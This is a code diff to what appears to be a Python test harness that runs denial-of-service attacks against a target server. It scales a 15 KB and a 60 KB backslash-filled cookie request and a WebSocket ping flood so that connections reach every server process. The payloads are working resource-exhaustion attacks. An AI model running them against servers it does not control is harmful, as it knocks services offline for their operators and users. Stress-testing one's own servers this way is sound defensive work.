@@ -95,6 +95,11 @@ async def repeat(seconds: float, work: Callable[[], Awaitable[object]], lines: i
     return told(counts)
 
 
+def on_all(target: Target) -> int:
+    """Connections that are likely to reach every process of a server: the visitor is at one of them."""
+    return 1 if target.processes == 1 else 3 * target.processes
+
+
 def told(counts: Counter[str]) -> str:
     return ", ".join(f"{count} × {what}" for what, count in counts.most_common(4)) or "nothing"
 
@@ -206,21 +211,26 @@ async def _cookies(target: Target, seconds: float, size: int, lines: int) -> Run
 
 @attack("cookie of backslashes, 15 KB", "attack 1", heavy=True)
 def cookies_15(target: Target, seconds: float) -> Running:
-    return _cookies(target, seconds, 15_000, 1)
+    return _cookies(target, seconds, 15_000, on_all(target))
 
 
 @attack("cookie of backslashes, 60 KB", "attack 1", heavy=True)
 async def cookies_60(target: Target, seconds: float) -> Running:
     """Once: that was enough for half a minute."""
-    wire, text = Raw(target, attacker(801)), request("GET", "/", Cookie='a="' + '\\"' * 30_000 + '"')
+    text = request("GET", "/", Cookie='a="' + '\\"' * 30_000 + '"')
+    wires = [Raw(target, attacker(801)) for _ in range(on_all(target))]
     yield ""
-    try:
-        async with asyncio.timeout(seconds):
-            status = str(await wire.ask(text))
-    except BROKEN as error:
-        status = type(error).__name__
-    wire.close()
-    yield f"1 × {status}"
+
+    async def ask(wire: Raw) -> str:
+        try:
+            async with asyncio.timeout(seconds):
+                return str(await wire.ask(text))
+        except BROKEN as error:
+            return type(error).__name__
+        finally:
+            wire.close()
+
+    yield told(Counter(await asyncio.gather(*map(ask, wires))))
 
 
 async def _frames(target: Target, seconds: float, sockets: int, first: bytes, frame: bytes) -> Running:
@@ -282,7 +292,7 @@ async def _until_closed(reader: asyncio.StreamReader) -> int:
 
 @attack("ping flood, 1 socket", "attack 2", heavy=True)
 def pings_1(target: Target, seconds: float) -> Running:
-    return _frames(target, min(seconds, 4.0), 1, b"", PING)
+    return _frames(target, min(seconds, 4.0), on_all(target), b"", PING)
 
 
 @attack("ping flood, 8 sockets", "attack 2", heavy=True)
